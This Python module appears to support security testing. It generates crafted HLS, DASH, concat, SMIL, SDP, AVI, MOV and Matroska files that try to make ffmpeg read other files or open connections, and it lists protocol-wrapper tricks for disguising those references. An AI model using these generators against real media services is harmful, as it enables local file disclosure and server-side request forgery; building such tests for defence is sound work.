"""Files that try to make ffmpeg read another file or open a connection."""

import struct
from collections.abc import Callable
from pathlib import Path


def playlist(target: str) -> bytes:
    return (
        f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\n{target}\n"
        "#EXT-X-ENDLIST\n"
    ).encode()


def master_playlist(target: str) -> bytes:
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}\n".encode()


def key_playlist(target: str) -> bytes:
    """HLS that fetches a key before it reads a segment of its own."""
    return (
        f'#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n'
        "#EXTINF:1,\ndata:video/mp2t;base64,AAAA\n#EXT-X-ENDLIST\n"
    ).encode()


def concat_script(target: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{target}'\nduration 1\n".encode()


def dash(target: str) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">'
        f'<Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL>'
        "<SegmentBase/></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def smil(target: str) -> bytes:
    return f'<smil><body><video src="{target}"/></body></smil>'.encode()


def session_description(target: str) -> bytes:
    return (
        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"a=control:{target}\r\nm=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    ).encode()


def real_rtsp(target: str) -> bytes:
    return f"RTSPtext\nREF={target}\n[Reference]\nRef1={target}\nRef2={target}\n".encode()


def image_list(target: str) -> bytes:
    return f"{target}\n".encode()


def chunk(name: bytes, content: bytes) -> bytes:
    padding = b"\0" * (len(content) % 2)
    return name + struct.pack("<I", len(content)) + content + padding


def gab2_avi(target: str) -> bytes:
    """An AVI whose subtitle stream (GAB2) holds an HLS playlist."""
    script = playlist(target)
    title = "sub".encode("utf-16le")
    subtitle = b"GAB2\0" + struct.pack("<HI", 2, len(title)) + title
    subtitle += struct.pack("<HI", 4, len(script)) + script
    main = struct.pack("<14I", 40_000, 0, 0, 0x10, 1, 0, 1, 0, 160, 120, 0, 0, 0, 0)
    text = b"txts" + b"\0" * 16 + struct.pack("<7I", 1, 25, 0, 1, 0, 0, 0) + b"\0" * 8
    stream_list = chunk(b"LIST", b"strl" + chunk(b"strh", text) + chunk(b"strf", b""))
    header = chunk(b"LIST", b"hdrl" + chunk(b"avih", main) + stream_list)
    body = header + chunk(b"LIST", b"movi" + chunk(b"00tx", subtitle))
    return chunk(b"RIFF", b"AVI " + body)


def asf_reference(target: str) -> bytes:
    return f"[Reference]\r\nRef1={target}\r\n".encode()


Maker = Callable[[str], bytes]
SCRIPTS: dict[str, Maker] = {
    "hls": playlist,
    "hls-master": master_playlist,
    "hls-key": key_playlist,
    "concat": concat_script,
    "dash": dash,
    "smil": smil,
    "sdp": session_description,
    "rtsp": real_rtsp,
    "asf-reference": asf_reference,
    "list": image_list,
    "gab2": gab2_avi,
}
# Ways in which a script may reference a file or an address.
DISGUISES = {
    "plain": "{}",
    "subfile": "subfile,,start,0,end,0,,:{}",
    "crypto": "crypto:{}",
    "concat": "concat:{}|{}",
    "cache": "cache:{}",
    "async": "async:{}",
}


def box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def with_data_elsewhere(clip: Path, entry: bytes) -> bytes:
    """Return a MOV of one track, reduced to its index, whose data are in another file.

    ``entry`` replaces the content of its ``dref`` box. The index comes last, so offsets stay right.
    """
    data = bytearray(clip.read_bytes())
    media, index = data.index(b"mdat"), data.index(b"moov")
    assert media < index, "the index comes last"
    assert data.count(b"dref") == 1, "one track"
    data[media + 4 : index - 4] = b"\0" * (index - media - 8)
    at = data.index(b"dref")
    (size,) = struct.unpack(">I", data[at - 4 : at])
    other = box(b"dref", b"\0\0\0\0\0\0\0\1" + entry)
    data[at - 4 : at - 4 + size] = other
    for name in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        start = data.index(name, index)
        (outer,) = struct.unpack(">I", data[start - 4 : start])
        data[start - 4 : start] = struct.pack(">I", outer + len(other) - size)
    return bytes(data)


def url_entry(target: str) -> bytes:
    return box(b"url ", b"\0\0\0\0" + target.encode() + b"\0")


def alias_entry(path: Path) -> bytes:
    """A Macintosh alias record (``alis``), which names a file by volume, folders and name."""
    name = path.name.encode()[:63]
    absolute = str(path).encode()
    record = struct.pack(">4sHHH", b"\0\0\0\0", 150 + 8 + len(absolute), 2, 0)
    record += bytes([6]) + b"volume".ljust(27, b"\0") + b"\0" * 12
    record += bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16
    record += struct.pack(">hh", 1, 1) + b"\0" * 16
    record += struct.pack(">hH", 2, len(absolute)) + absolute + b"\0" * (len(absolute) % 2)
    record += struct.pack(">hH", 18, len(absolute)) + absolute + b"\0" * (len(absolute) % 2)
    record += struct.pack(">hH", -1, 0)
    return box(b"alis", b"\0\0\0\0" + record)


def linked_matroska(stream: bytes, target: str) -> bytes:
    """Return a Matroska file, written as a stream, that references a continuation."""
    info = bytes.fromhex("1549a966")
    at = stream.index(info) + len(info)
    width = 8 - (stream[at].bit_length() - 1)
    size = int.from_bytes(stream[at : at + width], "big") & ((1 << (7 * width)) - 1)
    name = target.encode()
    uid = bytes(range(16))
    # PrevFilename, NextFilename, NextUUID (RFC 9559, section 5.1.2).
    more = b"".join(
        bytes.fromhex(element) + (0x4000 | len(content)).to_bytes(2, "big") + content
        for element, content in (("3c83ab", name), ("3e83bb", name), ("3eb923", uid))
    )
    grown = (size + len(more) | 1 << (7 * width)).to_bytes(width, "big")
    begin = at + width
    return stream[:at] + grown + stream[begin : begin + size] + more + stream[begin + size :]
